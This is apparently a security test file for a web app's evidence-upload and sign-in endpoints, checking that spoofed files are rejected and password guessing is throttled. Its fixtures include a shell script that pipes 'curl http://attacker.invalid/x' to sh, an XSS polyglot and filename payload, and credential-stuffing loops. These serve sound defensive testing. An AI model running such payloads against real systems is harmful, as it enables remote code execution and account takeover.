import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PASSWORD, startTestVigie, TestClient, type TestVigie } from './harness.js';
import { noisePng, patchChunk, publicCopyMade, rawRequest, seedEviction, uploadBody } from './evidence-fixtures.js';

/**
 * Two attacks on the edges people reach first: files whose name and declared type lie about
 * their content (a PDF or a program passed off as a phone photo), and password guessing on
 * the sign-in form, one account from many addresses or many accounts from one address.
 */
const backend = process.env.TEST_DATABASE_URL ? 'postgres' : 'pglite';
const RATE_LIMIT = 20;

let t: TestVigie;
let orgId: string;
let observer: TestClient;
let evictionId: string;

beforeAll(async () => {
  t = await startTestVigie({ LOGIN_MAX_FAILURES: '5', LOGIN_LOCK_MINUTES: '15', AUTH_RATE_LIMIT_PER_MINUTE: String(RATE_LIMIT) });
  const admin = await t.setUpAdmin();
  orgId = admin.user.organisationId;
  observer = await t.userWithRole(orgId, 'observer', 'observer@hro.example');
  ({ evictionId } = await seedEviction(t, orgId, observer.user.id));
});
afterAll(async () => { await t?.close(); });

const storedPath = (id: string) => join(t.vigie.ctx.config.dataDir, 'evidence', 'originals', orgId, id);

/** A minimal but well-formed PDF, the kind a phone's document scanner writes. */
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
/** The first bytes of a Linux program (ELF, x86-64) and of a Windows one (MZ/PE). */
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56, 0), Buffer.from('payload')]);
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58, 0), Buffer.from([0x40, 0, 0, 0]), Buffer.from('PE\0\0'), Buffer.alloc(200, 0x90)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://attacker.invalid/x | sh\n');
const HTML = Buffer.from('<!doctype html><html><body><script>fetch("/api/users")</script></body></html>');

describe(`spoofed evidence uploads (${backend})`, () => {
  for (const [what, bytes, detected] of [
    ['a PDF', PDF, 'application/pdf'], ['a Linux program', ELF, 'application/x-elf'], ['a Windows program', EXE, 'application/x-msdownload'],
    ['a shell script', SCRIPT, 'unknown'], ['an HTML page with a script', HTML, 'unknown'],
  ] as const) {
    it(`refuses ${what} named photo.jpg and declared image/jpeg, and keeps none of it`, async () => {
      const body = uploadBody(bytes, { evictionId }, { declaredType: 'image/jpeg', originalName: 'IMG_2041.jpg' });
      expect((await observer.post('/api/evidence', body)).statusCode).toBe(201);
      const res = await patchChunk(t, observer, body.id, 0, bytes);
      expect(res.statusCode).toBe(422);
      expect(res.json()).toMatchObject({ code: 'evidence.type_mismatch', details: { declared: 'image/jpeg', detected } });
      expect(res.json().message).toMatch(/\S{3,}/);
      const row = await t.db.selectFrom('evidence').select(['status', 'storage_key', 'public_copy_key']).where('id', '=', body.id).executeTakeFirstOrThrow();
      expect(row).toEqual({ status: 'rejected', storage_key: null, public_copy_key: null });
      expect(existsSync(storedPath(body.id))).toBe(false);
      // Nothing of it can be downloaded, not even by its author.
      expect((await rawRequest(t, observer, 'GET', `/api/evidence/${body.id}/original`)).statusCode).toBe(404);
    });
  }

  it('refuses declared types that are not evidence, whatever the name says', async () => {
    const png = await noisePng(8, 8);
    for (const [kind, declaredType] of [
      ['document', 'application/x-msdownload'], ['photo', 'image/svg+xml'], ['document', 'text/html'], ['photo', 'application/octet-stream'],
    ]) {
      const res = await observer.post('/api/evidence', uploadBody(png, { evictionId }, { kind, declaredType, originalName: 'photo.jpg' }));
      expect(res.statusCode, `${kind} ${declaredType}`).toBe(422);
      expect(res.json().code).toBe('evidence.type_not_allowed');
    }
  });

  it('keeps a JPEG-signed polyglot as evidence but never publishes it, and serves it only as a download', async () => {
    // Starts like a JPEG, then carries script text: the signature passes, the pixels do not decode.
    const polyglot = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), Buffer.from('JFIF\0'), Buffer.from('<script>alert(1)</script>'.repeat(20))]);
    const body = uploadBody(polyglot, { evictionId }, { declaredType: 'image/jpeg', originalName: '<img src=x onerror=alert(1)>.jpg' });
    expect((await observer.post('/api/evidence', body)).statusCode).toBe(201);
    const res = await patchChunk(t, observer, body.id, 0, polyglot);
    expect(res.statusCode, JSON.stringify(res.json())).toBe(200);
    expect(res.json().evidence).toMatchObject({ status: 'stored', detectedType: 'image/jpeg', hasPublicCopy: false });
    // The background job cannot decode it: no copy (shown as failed, for a coordinator to see),
    // and the original is never published instead.
    expect(await publicCopyMade(observer, body.id)).toMatchObject({ hasPublicCopy: false, publicCopyPending: false, publicCopyFailedAt: expect.any(String) });
    const published = await rawRequest(t, observer, 'GET', `/api/evidence/${body.id}/public`);
    expect(published.statusCode).toBe(409);
    expect(published.json().code).toBe('evidence.public_copy_failed');
    const original = await rawRequest(t, observer, 'GET', `/api/evidence/${body.id}/original`);
    expect(original.statusCode).toBe(200);
    expect(String(original.headers['content-disposition'])).toMatch(/^attachment; filename="evidence-[0-9a-f-]+"; filename\*=UTF-8''%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E\.jpg$/);
    expect(original.headers['x-content-type-options']).toBe('nosniff');
  });
});

describe(`sign-in brute force (${backend})`, () => {
  const login = (email: string, password: string, ip: string, lang = 'fr') => t.vigie.app.inject({
    method: 'POST', url: '/api/auth/login', remoteAddress: ip,
    headers: { 'content-type': 'application/json', 'accept-language': lang }, payload: JSON.stringify({ email, password }),
  });

  it('locks an address out of an account after 5 wrong passwords, refusing even the right one, with a clear message', async () => {
    for (let i = 1; i <= 5; i += 1) {
      const res = await login('observer@hro.example', `guess-number-${i}`, '198.51.100.1');
      expect(res.statusCode, `attempt ${i}`).toBe(401);
      expect(res.json().code).toBe('auth.invalid_credentials');
    }
    const sixth = await login('observer@hro.example', 'guess-number-6', '198.51.100.1');
    expect(sixth.statusCode).toBe(429);
    expect(sixth.json()).toEqual({ code: 'auth.throttled', message: 'Trop de tentatives de connexion échouées. Réessayez dans 15 minutes.', details: { minutes: 15 } });
    expect(Number(sixth.headers['retry-after'])).toBe(900);
    // The right password from that address is refused too while the lock lasts.
    const right = await login('observer@hro.example', PASSWORD, '198.51.100.1', 'en');
    expect(right.statusCode).toBe(429);
    expect(right.json().message).toBe('Too many failed sign-in attempts. Try again in 15 minutes.');
    expect(right.headers['set-cookie']).toBeUndefined();
    // The guesser did not lock the person out: from their own address they sign in
    // (the whole account locks only after LOGIN_ACCOUNT_MAX_FAILURES, sign-in-throttle.test.ts).
    expect((await login('observer@hro.example', PASSWORD, '192.0.2.77')).statusCode).toBe(200);
    // Another account is not affected.
    await t.userWithRole(orgId, 'coordinator', 'coordinator@hro.example');
    expect((await login('coordinator@hro.example', PASSWORD, '192.0.2.78')).statusCode).toBe(200);
  });

  it(`limits one address to ${RATE_LIMIT} sign-in attempts a minute across accounts (credential stuffing)`, async () => {
    const statuses: number[] = [];
    for (let i = 0; i < RATE_LIMIT + 3; i += 1) statuses.push((await login(`victim${i}@example.org`, 'Winter2026!', '203.0.113.9')).statusCode);
    expect(statuses.slice(0, RATE_LIMIT).every((s) => s === 401)).toBe(true);
    expect(statuses.slice(RATE_LIMIT)).toEqual([429, 429, 429]);
    const limited = await login('coordinator@hro.example', PASSWORD, '203.0.113.9');
    expect(limited.statusCode).toBe(429);
    expect(limited.json()).toMatchObject({ code: 'request.rate_limited', message: 'Trop de tentatives. Réessayez dans une minute.' });
    // Someone else, from another address, still signs in.
    expect((await login('coordinator@hro.example', PASSWORD, '203.0.113.10')).statusCode).toBe(200);
  });
});
